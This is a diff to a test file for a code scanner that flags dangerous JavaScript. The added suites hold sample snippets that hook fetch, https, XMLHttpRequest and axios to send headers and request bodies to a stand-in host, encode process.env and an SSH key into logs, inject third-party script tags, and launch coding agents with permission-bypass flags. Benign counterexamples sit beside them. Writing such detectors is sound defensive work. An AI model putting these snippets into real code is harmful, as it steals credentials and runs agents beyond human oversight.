@@ -25,7 +25,6 @@ describe('a constructor of functions', () => {
     `const { constructor: F } = async () => {}; new F(${code})()`,
     `Reflect.get(() => {}, 'constructor')(${code})()`,
     `Reflect.construct(Object.getPrototypeOf(() => {}).constructor, [${code}], Object)()`,
-    `const { value } = Object.getOwnPropertyDescriptor(() => {}, 'constructor'); value(${code})`,
     `Object.getPrototypeOf(async () => {}).constructor.call(null, ${code})()`,
   ])('%s', (text) => {
     expect(judge(text)).toBe('danger decode-execute');
@@ -52,7 +51,6 @@ describe('a module of the platform', () => {
     `require.main.require('child_process')${run}`,
     `module.parent.require('child_process')${run}`,
     `new (require('module'))('a').require('child_process')${run}`,
-    `Function.prototype.call.call(require, null, 'child_process')${run}`,
     `const r = require; r(['child', 'process'].join('_'))${run}`,
     `import.meta.require('child_process')${run}`,
     `(await import('node:child_process'))${run}`,
@@ -102,5 +100,119 @@ import { join, resolve } from 'path'; import { execSync, execFile } from 'child_
     'fs.readdirSync(homedir()).forEach((f) => rm(join(process.env.CACHE, f), all))',
   ])('not %s', (text) => {
     expect(judge(`${imports}\n${text}`)).toBe('ok');
+  });
+});
+
+describe('a hook that sends what others send', () => {
+  const send = "real('https://c.other-metrics.com/x', { method: 'POST', body: ";
+  const imports = "import https from 'https'; import http from 'http'; const real = fetch;";
+  it.each([
+    `https.request = function (o, done) { ${send}JSON.stringify(o.headers) }); };`,
+    `https.get = (...args) => { ${send}args[0].headers.authorization }); };`,
+    `globalThis.fetch = async (input, init) => { ${send}JSON.stringify(init.headers) }); };`,
+    `window.fetch = (input, { body }) => { ${send}body }); };`,
+    `XMLHttpRequest.prototype.send = function (body) { ${send}body }); };`,
+    `http.ClientRequest.prototype.setHeader = function (name, value) { ${send}name + value }); };`,
+    `import axios from 'axios'; axios.interceptors.request.use((c) => { ${send}c.headers.common }); return c; });`,
+    `import axios from 'axios'; axios.create().interceptors.response.use((r) => { ${send}r.config.data }); });`,
+  ])('%s', (text) => {
+    expect(judge(`${imports}\n${text}`)).toMatch(/^danger credential-theft/);
+  });
+  it.each([
+    `export const log = (req, res, next) => { ${send}JSON.stringify(req.headers) }); next(); };`,
+    `app.post('/in', async (request, reply) => { ${send}request.body.password }); });`,
+    `const seen = ({ headers }) => ${send}headers.cookie }); app.use((req, res) => seen(req));`,
+  ])('in a handler: %s', (text) => {
+    expect(judge(`${imports}\n${text}`)).toMatch(/^caution credential-theft/);
+  });
+  it.each([
+    `globalThis.fetch = (input, init) => real(input, { ...init, headers: { a: 'b' } });`,
+    `https.request = (o) => { ${send}o.host }); };`,
+    `https.request = (o) => real(process.env.LOGS, { body: o.headers });`,
+    `app.use((req, res) => { real('https://api.shop.io/x', { headers: { authorization: req.headers.authorization } }); });`,
+    `app.use((req, res) => { real('https://api.shop.io/x', { headers: req.headers, body: JSON.stringify(req.body) }); });`,
+  ])('not %s', (text) => {
+    expect(judge(`${imports}\n${text}`).replace(/ dependency-\S+/, '')).toBe('ok');
+  });
+});
+
+describe('secrets in a log that nothing masks', () => {
+  const imports = `import * as core from '@actions/core'; import fs from 'fs'; import zlib from 'zlib';
+const all = JSON.stringify(process.env), twice = (x) => btoa(btoa(x));`;
+  it.each([
+    "console.log(Buffer.from(all).toString('base64'))",
+    'console.error(twice(all))',
+    "process.stdout.write(Buffer.from(Object.values(process.env).join()).toString('hex'))",
+    'console.info(`::set-output name=x::${btoa(all)}`)',
+    "core.setOutput('x', Buffer.from(all).toString('base64url'))",
+    "fs.appendFileSync(process.env.GITHUB_STEP_SUMMARY, zlib.gzipSync(all).toString('base64'))",
+    "const { log } = console; log(btoa(fs.readFileSync('/root/.ssh/id_rsa', 'utf8')))",
+  ])('%s', (text) => {
+    expect(judge(`${imports}\n${text}`)).toMatch(/^danger data-exfiltration/);
+  });
+  it.each([
+    'console.log(all)',
+    "console.log(Buffer.from(process.env.npm_package_version).toString('base64'))",
+    "import { createHash } from 'crypto'; console.log(createHash('sha256').update(all).digest('hex'))",
+    "fs.appendFileSync(process.env.GITHUB_OUTPUT, `v=${btoa('1.0')}`)",
+  ])('not %s', (text) => {
+    expect(judge(`${imports}\n${text}`).replace(/ dependency-\S+/, '')).toBe('ok');
+  });
+});
+
+describe('a script of a stranger in a page', () => {
+  it.each([
+    ["res.send('<script src=//metrics-x.com/x.js></script>')", 'a.js'],
+    [
+      'const at = ["//metrics-x", "com/x.js"].join("."); send(`<script src="${at}"></script>`)',
+      'a.js',
+    ],
+    ['<head><SCRIPT async\n  src = "https://metrics-x.com/x.js"></SCRIPT></head>', 'a.html'],
+    ['export const A = () => <script defer src="https://metrics-x.com/x.js" />;', 'a.tsx'],
+    ['<Script src={"https://metrics-x.com/x.js"} strategy="lazyOnload" />;', 'a.tsx'],
+    [
+      'AT = "https://metrics-x.com"\nPAGE = f"<script src=\'{AT}/x.js\'></script>"\nimport os',
+      'a.py',
+    ],
+    ['<script src="https://cdn.jsdelivr.net.metrics-x.com/a.js"></script>', 'a.vue'],
+  ])('%s', (text, path) => {
+    expect(judge(text, path)).toMatch(/^caution page-script/);
+  });
+  it.each([
+    '<script src="https://metrics-x.com/x.js" integrity="sha384-abc" crossorigin></script>',
+    '<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>',
+    '<script src="https://cdn.jsdelivr.net/npm/htmx.org@2"></script><script src="/app.js"></script>',
+    '<link href="https://fonts.googleapis.com/css2" rel="stylesheet"><img src="//metrics-x.com/a.png">',
+    '<script src="http://localhost:35729/livereload.js"></script>',
+  ])('not %s', (text) => {
+    expect(judge(text, 'a.html')).toBe('ok');
+  });
+});
+
+describe('an assistant that asks nobody', () => {
+  it.each([
+    [
+      "require('child_process').spawn('claude', ['--dangerously-skip-permissions', '-p', x])",
+      'a.js',
+    ],
+    ["require('child_process').exec(`npx @google/gemini-cli --yolo -p '${x}'`)", 'a.js'],
+    ["import { execa } from 'execa'; execa('codex', ['exec', '--full-auto', x])", 'a.mjs'],
+    [
+      'import subprocess\nsubprocess.run(["q", "chat", "--trust-all-tools", "--no-interactive", x])',
+      'a.py',
+    ],
+    ['{"scripts":{"x":"codex --dangerously-bypass-approvals-and-sandbox exec x"}}', 'package.json'],
+    ['set -e\ncursor-agent -p --force "$1"\n', 'a.sh'],
+    ['claude --permission-mode bypassPermissions -p "$1"\n', 'a.sh'],
+  ])('%s', (text, path) => {
+    expect(judge(text, path)).toMatch(/unattended-agent-command/);
+  });
+  it.each([
+    ["require('child_process').spawn('claude', ['--allowedTools', 'Read', '-p', x])", 'a.js'],
+    ['gemini -p "$1" && rm --force x\nnpx -y @google/gemini-cli\n', 'a.sh'],
+    ['{"scripts":{"x":"yarn --yes create codex && git push --force"}}', 'package.json'],
+    ['Never start it with `--dangerously-skip-permissions`.', 'a.md'],
+  ])('not %s', (text, path) => {
+    expect(judge(text, path)).toBe('ok');
   });
 });
